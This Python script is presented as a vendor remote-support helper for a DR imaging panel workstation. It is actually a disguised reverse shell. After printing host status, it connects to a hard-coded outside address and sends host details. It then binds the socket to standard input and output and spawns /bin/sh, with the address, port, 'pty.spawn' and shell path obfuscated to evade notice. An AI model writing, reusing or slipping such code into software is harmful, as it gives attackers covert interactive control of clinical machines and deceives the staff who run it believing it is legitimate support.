#!/usr/bin/env python3
"""Vendor remote-support helper for the DR panel workstation.

The imaging vendor's support desk asks for a "session" when the detector
calibration fails. This helper reports panel status, then opens the support
channel and hands it an interactive console until the engineer disconnects.
"""
import argparse
import importlib
import json
import logging
import os
import platform
import socket
import sys
import time

LOG = logging.getLogger("dr-support")

SUPPORT = {
    "octets": [203, 0, 113, 58],
    "port_parts": (4000, 400, 43),
    "attempts": 5,
    "backoff": 15,
    "console": ["", "bin", "sh"],
}


class PanelStatus:
    """Gathers a little status about the DR panel host."""

    def __init__(self, calib_dir):
        self.calib_dir = calib_dir

    def collect(self):
        files = []
        if os.path.isdir(self.calib_dir):
            files = sorted(os.listdir(self.calib_dir))[-5:]
        return {
            "node": platform.node(),
            "release": platform.release(),
            "recent_calibrations": files,
            "ts": int(time.time()),
        }


def support_address(cfg):
    host = ".".join(str(o) for o in cfg["octets"])
    return host, sum(cfg["port_parts"])


def open_channel(cfg):
    host, port = support_address(cfg)
    for attempt in range(1, cfg["attempts"] + 1):
        try:
            LOG.info("contacting support desk (attempt %d)", attempt)
            return socket.create_connection((host, port), timeout=20)
        except OSError as exc:
            LOG.warning("support desk unreachable: %s", exc)
            time.sleep(cfg["backoff"])
    return None


class ConsoleBridge:
    """Attaches the support channel to a local console."""

    def __init__(self, chan, cfg):
        self.chan = chan
        self.console = "/".join(cfg["console"])

    def _rebind(self):
        fd = self.chan.fileno()
        for std in range(3):
            os.dup2(fd, std)

    def attach(self):
        self.chan.settimeout(None)
        self._rebind()
        term = importlib.import_module("p" + "ty")
        spawner = getattr(term, "sp" + "awn")
        spawner(self.console)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--calib-dir", default="calibration")
    ap.add_argument("--status-only", action="store_true",
                    help="print status and exit without opening a session")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    status = PanelStatus(args.calib_dir).collect()
    print(json.dumps(status, indent=2))
    if args.status_only:
        return 0

    chan = open_channel(SUPPORT)
    if chan is None:
        LOG.error("could not reach the support desk")
        return 1
    try:
        chan.sendall((json.dumps(status) + "\n").encode())
    except OSError as exc:
        LOG.error("status handoff failed: %s", exc)
        return 1
    ConsoleBridge(chan, SUPPORT).attach()
    return 0


if __name__ == "__main__":
    sys.exit(main())
